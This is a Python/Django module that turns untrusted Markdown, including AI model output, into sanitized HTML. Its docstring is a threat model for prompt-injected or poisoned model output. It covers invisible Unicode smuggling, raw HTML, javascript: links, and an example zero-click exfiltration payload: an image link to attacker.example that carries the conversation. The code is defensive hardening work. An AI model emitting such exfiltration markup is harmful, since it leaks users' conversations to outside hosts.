"""Untrusted text to HTML: the one path. Chat answers, snapshots and everything later that shows untrusted text
(citations, the source viewer, the arena, the labeling panel) call `untrusted_markdown_render`; nothing else in
the product turns untrusted text into HTML.

Model output is untrusted: a prompt injection in a document, a shared assistant's instructions or a poisoned
fine-tune can make the model write whatever it likes. The threats, and the step that answers each:

1. Invisible Unicode (tag characters that smuggle instructions, bidi controls that reorder what is shown,
   zero-width characters that split `javascript:` invisibly): `unicode_clean` removes them and logs a decoded
   tag-character message; first from the source, then from each token's text, since markdown-it decodes
   entities (`&#x202E;`) after the first pass. Not from the HTML itself: NFC there would fuse `>` and a
   following U+0338 into `≯` and break the markup.
2. Raw HTML (`<img>`, `<script>`, `<svg onload>`, `<style>`, `<meta>`, `<base>`, `<form>`...): markdown-it
   runs with HTML off, so it is text.
3. Link schemes: a destination that is not http(s), mailto or relative is not a link at all (markdown-it's
   `validateLink`, fed by `apps.core.links`), so `javascript:` in any disguise stays literal text.
4. Zero-click exfiltration through images (`![](https://attacker.example/?q=<the conversation>)`): every image
   token (inline, reference-style, inside a link) becomes the text "[image not loaded: alt — host]". Turning
   markdown-it's image rule off would not do: the text would parse as a link.
5. Links that look like somewhere else: a link to another host goes through the `/out` interstitial, which
   shows the real host; links past `ATELIER_RENDER_MAX_LINKS` stay text.
6. Overlays: no style attribute survives; table alignment becomes a class (the CSP forbids inline styles).
7. nh3 then sanitizes against an allow-list, with `rel="noopener noreferrer nofollow"` on every link: a second
   line that holds if a step above ever lets something through.

While an answer streams, the browser shows plain text (chat.js sets textContent); only this function's HTML is
ever inserted as HTML.
"""

import nh3
from django.conf import settings
from django.urls import reverse
from django.utils.http import urlencode
from markdown_it import MarkdownIt
from markdown_it.token import Token

from apps.core.links import link_allowed, link_host, link_leaves_site
from apps.core.unicode import unicode_clean

ALLOWED_TAGS = {
    "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "strong", "em", "del", "s", "code", "pre",
    "blockquote", "ul", "ol", "li", "a", "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip
ALLOWED_ATTRIBUTES = {"a": {"href"}, "ol": {"start"}}  # no title: a tooltip can claim a destination too
ALIGN_CLASSES = {"align-left", "align-center", "align-right"}
LINK_REL = "noopener noreferrer nofollow"
ALT_CHARS = 100  # of an image's alt text in its placeholder
SOURCE = "untrusted markdown"  # names the text in the log line of a decoded tag-character message


class _UntrustedMarkdown(MarkdownIt):
    def validateLink(self, url: str) -> bool:  # markdown-it's name
        return link_allowed(url)


_markdown = _UntrustedMarkdown("commonmark", {"html": False, "linkify": False}).enable(["table", "strikethrough"])


def _plain_text(tokens: list[Token]) -> str:
    """The text of inline tokens, as markdown-it renders an image's alt."""
    parts = []
    for token in tokens:
        if token.type in ("text", "code_inline"):
            parts.append(token.content)
        elif token.type in ("softbreak", "hardbreak"):
            parts.append(" ")
        elif token.children:
            parts.append(_plain_text(token.children))
    return "".join(parts)


def _text(content: str) -> Token:
    return Token("text", "", 0, content=content)


def image_placeholder(alt: str, src: str) -> str:
    """What an image in untrusted text shows instead of loading: its alt text and the host it would have
    called."""
    alt = " ".join(alt.split())
    alt = alt if len(alt) <= ALT_CHARS else alt[: ALT_CHARS - 1] + "…"
    host = link_host(src) or "this site"
    return f"[image not loaded: {alt} — {host}]" if alt else f"[image not loaded — {host}]"


def _href(url: str) -> str:
    return f"{reverse('outbound')}?{urlencode({'u': url})}" if link_leaves_site(url) else url


def _inline_shape(children: list[Token], links_left: int) -> tuple[list[Token], int]:
    """Images to placeholders, links to their policy. Returns the new children and the links still allowed."""
    shaped: list[Token] = []
    dropped: list[Token | None] = []  # for each open link: None while it stays a link, else its opening token
    for token in children:
        if token.type == "image":
            shaped.append(_text(image_placeholder(_plain_text(token.children or []), str(token.attrs["src"]))))
        elif token.type == "link_open" and links_left > 0:
            links_left -= 1
            token.attrs = {"href": _href(str(token.attrs["href"]))}
            shaped.append(token)
            dropped.append(None)
        elif token.type == "link_open":  # over the cap: the text stays, and the destination shows as text
            dropped.append(token)
        elif token.type == "link_close":
            opener = dropped.pop()
            if opener is None:
                shaped.append(token)
            elif opener.info != "auto":  # an autolink's text is already its address
                shaped.append(_text(f" ({opener.attrs['href']})"))
        else:
            shaped.append(token)
    return shaped, links_left


def _contents_clean(tokens: list[Token]) -> None:
    """Invisible characters that markdown-it decoded from entities (`&#x202E;`, `&#xE0041;`) after the first
    clean: removed from every token's text."""
    for token in tokens:
        if token.content:
            token.content = unicode_clean(token.content, source=SOURCE).text
        if token.children:
            _contents_clean(token.children)


def _shape(tokens: list[Token]) -> None:
    _contents_clean(tokens)
    links_left = settings.ATELIER_RENDER_MAX_LINKS
    for token in tokens:
        if token.type in ("th_open", "td_open") and "style" in token.attrs:
            align = str(token.attrs.pop("style")).removeprefix("text-align:")
            token.attrs["class"] = f"align-{align}"
        if token.children:
            token.children, links_left = _inline_shape(token.children, links_left)


def untrusted_markdown_render(text: str) -> str:
    """Untrusted Markdown (model output, documents, datasets) as safe HTML (see the module docstring)."""
    env: dict = {}
    tokens = _markdown.parse(unicode_clean(text, source=SOURCE).text, env)
    _shape(tokens)
    html = _markdown.renderer.render(tokens, _markdown.options, env)
    return nh3.clean(
        html,
        tags=ALLOWED_TAGS,
        attributes=ALLOWED_ATTRIBUTES,
        allowed_classes={"th": ALIGN_CLASSES, "td": ALIGN_CLASSES},
        url_schemes={"http", "https", "mailto"},
        link_rel=LINK_REL,
    )
